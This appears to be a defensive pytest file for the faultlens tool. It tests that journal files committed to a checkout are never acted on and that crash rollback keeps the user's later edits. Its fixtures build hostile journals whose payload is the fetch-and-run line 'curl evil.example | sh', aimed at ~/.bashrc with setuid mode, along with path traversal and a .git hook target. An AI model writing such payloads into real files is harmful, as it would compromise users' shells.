"""Journals in `.faultlens/journal/` (issue 19, items 1 and 3).

Item 1: a journal that came with a checkout is data, never an instruction.
Only an entry signed with this machine's key, for this state dir, is acted
on, and even then every target is checked against the workspace roots
before anything is touched.

Item 3: rolling back an apply interrupted by kill -9 never costs the user an
edit: a file is restored only while it holds exactly what the apply wrote; a
file edited (or filled) since is kept and reported.  An apply interrupted
more than a day ago is not rolled back at all: it is reported and its
journal set aside.  Every roll back says what it did (an event and a
message).
"""

from __future__ import annotations

import base64
import json
import logging
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from faultlens.recipes import EventLog, TextEdit, Workspace, apply_edits, recover_interrupted
from faultlens.recipes.edits import TMP_MARK

from .hostile import journal_by_a_dead_process

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def said(caplog):
    """The one-line messages faultlens gives about its state: logged, and
    handed to the reporter of the CLI (stderr) or the server (the client)."""
    caplog.set_level(logging.WARNING, logger="faultlens")

    class Said:
        def __iter__(self):
            return iter([r.getMessage() for r in caplog.records if r.name.startswith("faultlens")])

        def __repr__(self) -> str:
            return repr(list(self))

    return Said()


def _start(root: Path) -> None:
    """What a start of faultlens (`faultlens run`, the server) does first."""
    from faultlens.recipes.crash_restore import recover_state

    recover_state(Workspace.at(root))


def _dead_pid() -> int:
    proc = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    )
    return int(proc.stdout)


def _victims(tmp_path: Path) -> tuple[Path, Path, dict[str, tuple[bytes, int]]]:
    """A workspace and, beside it, files a hostile journal aims at."""
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / ".bashrc").write_text("alias ls='ls -F'\n")
    (outside / "notes.txt").write_text("my notes\n")
    (root / "src" / "app.py").write_text("print('hello')\n")
    (root / "README.md").write_text("# readme\n")
    snap = {}
    for p in [outside / ".bashrc", outside / "notes.txt", root / "src/app.py", root / "README.md"]:
        snap[str(p)] = (p.read_bytes(), stat.S_IMODE(p.stat().st_mode))
    return root, outside, snap


def _unchanged(snap: dict[str, tuple[bytes, int]]) -> None:
    for name, (data, mode) in snap.items():
        p = Path(name)
        assert p.exists(), f"{name} was deleted"
        assert p.read_bytes() == data, f"{name} was written"
        assert stat.S_IMODE(p.stat().st_mode) == mode, f"{name} was chmodded"


def _hostile_journals(root: Path, outside: Path) -> None:
    """Journals as a repository could commit them: the old unsigned format and
    the signed format with a forged MAC, aiming outside and inside."""
    jdir = root / ".faultlens" / "journal"
    jdir.mkdir(parents=True)
    pwn = base64.b64encode(b"curl evil.example | sh\n").decode()
    dead = _dead_pid()
    old_format = {
        "pid": dead,
        "targets": [
            {
                "path": str(outside / ".bashrc"),
                "tmp": str(outside / "notes.txt"),
                "original": pwn,
                "mode": 0o4777,
            },
            {"path": str(root / "src" / "app.py"), "tmp": None, "original": None, "mode": 0o644},
            {"path": str(root / "README.md"), "tmp": None, "original": pwn, "mode": 0o777},
        ],
    }
    (jdir / f"{dead}-0123456789ab.json").write_text(json.dumps(old_format))
    doc = json.dumps(
        {
            "v": 1,
            "kind": "edits",
            "state": str((root / ".faultlens").resolve()),
            "owner": {"pid": dead, "start": None, "boot": None},
            "created_ns": 0,
            "updated_ns": 0,
            "data": {
                "targets": [
                    {
                        "path": "../home/.bashrc",
                        "tmp": None,
                        "original": pwn,
                        "old": None,
                        "new": "0" * 64,
                        "size": 1,
                        "mode": 0o777,
                    }
                ]
            },
        },
        sort_keys=True,
        separators=(",", ":"),
    )
    forged = {"doc": doc, "mac": "0" * 64}
    (jdir / f"edits-{dead}-0123456789ab.json").write_text(json.dumps(forged))


def test_a_committed_journal_never_makes_an_apply_write_chmod_or_delete_anything(tmp_path, said):
    root, outside, snap = _victims(tmp_path)
    _hostile_journals(root, outside)
    (root / "other.py").write_text("x = 1\n")
    apply_edits([TextEdit("other.py", 0, 0, 0, 0, "import os\n")], Workspace.at(root))
    _unchanged(snap)
    assert (root / "other.py").read_text() == "import os\nx = 1\n"
    refused = [m for m in said if "nothing in it is acted on" in m]
    assert len(refused) == 2, said
    events = [
        e for e in EventLog(Workspace.at(root)).read_events() if e["event"] == "state.refused"
    ]
    assert len(events) == 2


def test_a_committed_journal_is_ignored_by_the_start_of_faultlens_run(tmp_path):
    root, outside, snap = _victims(tmp_path)
    _hostile_journals(root, outside)
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "faultlens.cli.main",
            "run",
            "--workspace",
            str(root),
            "--cwd",
            str(root),
            "--recover",
            "--",
            sys.executable,
            "-c",
            "print('ok')",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    _unchanged(snap)
    assert "nothing in it is acted on" in proc.stderr


def test_a_signed_journal_naming_targets_outside_the_roots_touches_nothing(tmp_path, said):
    root, outside, snap = _victims(tmp_path)
    pwn = base64.b64encode(b"pwned\n").decode()
    targets = [
        {
            "path": p,
            "tmp": None,
            "original": pwn,
            "old": None,
            "new": "0" * 64,
            "size": 1,
            "mode": 0o777,
        }
        for p in [
            "../home/.bashrc",
            str(outside / "notes.txt"),
            ".git/hooks/post-checkout",
            ".faultlens/recipes/compile.md",
        ]
    ]
    journal_by_a_dead_process(root, "edits", {"targets": targets})
    _start(root)
    _unchanged(snap)
    assert not (root / ".git").exists()
    assert not (root / ".faultlens" / "recipes").exists()


def test_a_journal_copied_from_another_workspace_is_refused(tmp_path, said):
    root, _outside, snap = _victims(tmp_path)
    other = tmp_path / "other"
    (other / "src").mkdir(parents=True)
    (other / "src" / "app.py").write_text("changed\n")
    new = "0" * 64
    name = journal_by_a_dead_process(
        other,
        "edits",
        {
            "targets": [
                {
                    "path": "src/app.py",
                    "tmp": None,
                    "original": None,
                    "old": None,
                    "new": new,
                    "size": 8,
                    "mode": 420,
                }
            ]
        },
    )
    (root / ".faultlens" / "journal").mkdir(parents=True)
    (root / ".faultlens" / "journal" / name).write_bytes(
        (other / ".faultlens" / "journal" / name).read_bytes()
    )
    _start(root)
    _unchanged(snap)
    assert any("another state dir" in m for m in said), said


def test_a_machine_key_others_can_read_or_a_linked_key_is_refused(tmp_path, monkeypatch):
    from faultlens.recipes import machinekey

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setattr(machinekey, "_cache", {})
    key = machinekey.machine_key()
    path = tmp_path / "state" / "faultlens" / machinekey.KEY_FILE
    assert len(key) == 32 and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    monkeypatch.setattr(machinekey, "_cache", {})
    path.chmod(0o644)
    with pytest.raises(machinekey.MachineKeyError, match="readable by others"):
        machinekey.machine_key()
    path.unlink()
    (tmp_path / "planted").write_bytes(b"k" * 32)
    (tmp_path / "planted").chmod(0o600)
    path.symlink_to(tmp_path / "planted")
    with pytest.raises(machinekey.MachineKeyError, match="symlink"):
        machinekey.machine_key()


def test_a_relative_home_never_puts_the_machine_key_in_the_working_directory(tmp_path, monkeypatch):
    """HOME=relative would make ~/.local/state a folder of the cwd (a
    workspace): the key is refused there, as a relative XDG_STATE_HOME is."""
    from faultlens.recipes import machinekey

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_STATE_HOME", "relative/state")
    monkeypatch.setenv("HOME", "relative-home")
    monkeypatch.setattr(machinekey, "_cache", {})
    with pytest.raises(machinekey.MachineKeyError, match="not an absolute path"):
        machinekey.machine_key()
    assert list(tmp_path.iterdir()) == []


# -- item 3: the roll back keeps the user's later edits ---------------------------------------
def _apply_and_die(root: Path, after: int, edits: list[list]) -> None:
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "tests.security.workers.apply_then_die",
            str(root),
            str(after),
            json.dumps(edits),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == -signal.SIGKILL, proc.stdout + proc.stderr


def _project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / "src").mkdir(parents=True)
    (root / "src" / "a.py").write_text("a = 1\n")
    (root / "src" / "b.py").write_text("b = 1\n")
    return root


EDITS = [
    ["src/a.py", 0, 0, 0, 0, "import os\n"],
    ["src/b.py", 0, 0, 0, 0, "import os\n"],
    ["src/new.py", 0, 0, 0, 0, "created = True\n"],
]


def test_the_roll_back_restores_files_that_still_hold_what_the_apply_wrote(tmp_path, said):
    root = _project(tmp_path)
    _apply_and_die(root, 1, EDITS)
    assert (root / "src" / "a.py").read_text() == "import os\na = 1\n"  # half applied
    assert recover_interrupted(Workspace.at(root)) == 1
    assert (root / "src" / "a.py").read_text() == "a = 1\n"
    assert (root / "src" / "b.py").read_text() == "b = 1\n"
    assert not (root / "src" / "new.py").exists()
    assert any("rolled back" in m and "src/a.py" in m for m in said), said
    (event,) = [
        e for e in EventLog(Workspace.at(root)).read_events() if e["event"] == "state.recovered"
    ]
    assert event["restored"] == ["src/a.py"] and event["kind"] == "edits"


def test_the_roll_back_keeps_a_file_the_user_edited_after_the_kill(tmp_path, said):
    root = _project(tmp_path)
    _apply_and_die(root, 2, EDITS)
    (root / "src" / "a.py").write_text("import os\na = 2  # the user's later edit\n")
    recover_interrupted(Workspace.at(root))
    assert (root / "src" / "a.py").read_text() == "import os\na = 2  # the user's later edit\n"
    assert (root / "src" / "b.py").read_text() == "b = 1\n"  # still the apply's: restored
    kept = [m for m in said if m.startswith("kept your later changes")]
    assert kept and "src/a.py" in kept[0], said
    events = EventLog(Workspace.at(root)).read_events()
    assert [e["files"] for e in events if e["event"] == "state.kept"] == [["src/a.py"]]


def test_the_roll_back_never_deletes_a_file_the_user_filled(tmp_path, said):
    root = _project(tmp_path)
    _apply_and_die(root, 3, EDITS)  # all three swapped in, killed before the journal went
    (root / "src" / "new.py").write_text("created = True\nmore = 'the user wrote this'\n")
    recover_interrupted(Workspace.at(root))
    assert (root / "src" / "new.py").read_text().endswith("'the user wrote this'\n")
    assert (root / "src" / "a.py").read_text() == "a = 1\n"


def test_an_apply_interrupted_more_than_a_day_ago_is_reported_not_rolled_back(
    tmp_path, said, monkeypatch
):
    root = _project(tmp_path)
    _apply_and_die(root, 1, EDITS)
    later = time.time_ns() + int(2 * 86400 * 1e9)
    monkeypatch.setattr(time, "time_ns", lambda: later)
    monkeypatch.setattr(time, "time", lambda: later / 1e9)
    recover_interrupted(Workspace.at(root))
    assert (root / "src" / "a.py").read_text() == "import os\na = 1\n"  # left as it is
    msg = [m for m in said if "not rolled back" in m]
    assert msg and "src/a.py" in msg[0] and "2 days" in msg[0], said
    jdir = root / ".faultlens" / "journal"
    assert not list(jdir.glob("*.json")) and len(list(jdir.glob("*.json.stale"))) == 1
    assert not [p for p in root.rglob("*") if TMP_MARK in p.name]
    _start(root)  # said once, not at every start
    assert len([m for m in said if "not rolled back" in m]) == 1


def test_a_killed_faultlens_s_processes_are_stopped_before_its_worktree_is_removed(tmp_path):
    """Issue 27, item 16: after a kill -9 during triage, the worktree (journalled
    first) was removed while the check's processes (journalled after) still
    ran in it.  Entries that stop processes are now handled first."""
    from faultlens.recipes import Workspace, crash_restore

    from .hostile import journal_by_a_dead_process

    (tmp_path / ".git").mkdir(exist_ok=True)
    order: list[str] = []

    def handler(name: str):  # type: ignore[no-untyped-def]
        def handle(ws, entry, *, stale):  # type: ignore[no-untyped-def]
            from faultlens.recipes import journal

            order.append(name)
            return journal.Recovered(f"{name} done")

        return handle

    crash_restore.register("probe.tree", handler("tree"))
    crash_restore.register("probe.procs", handler("procs"))
    try:
        journal_by_a_dead_process(tmp_path, "probe.tree", {"path": "x"})
        journal_by_a_dead_process(tmp_path, "probe.procs", {"token": "0" * 32})
        crash_restore.recover(Workspace.at(tmp_path), kinds=["probe.tree", "probe.procs"])
    finally:
        crash_restore.HANDLERS.pop("probe.tree", None)
        crash_restore.HANDLERS.pop("probe.procs", None)
    assert order == ["procs", "tree"]
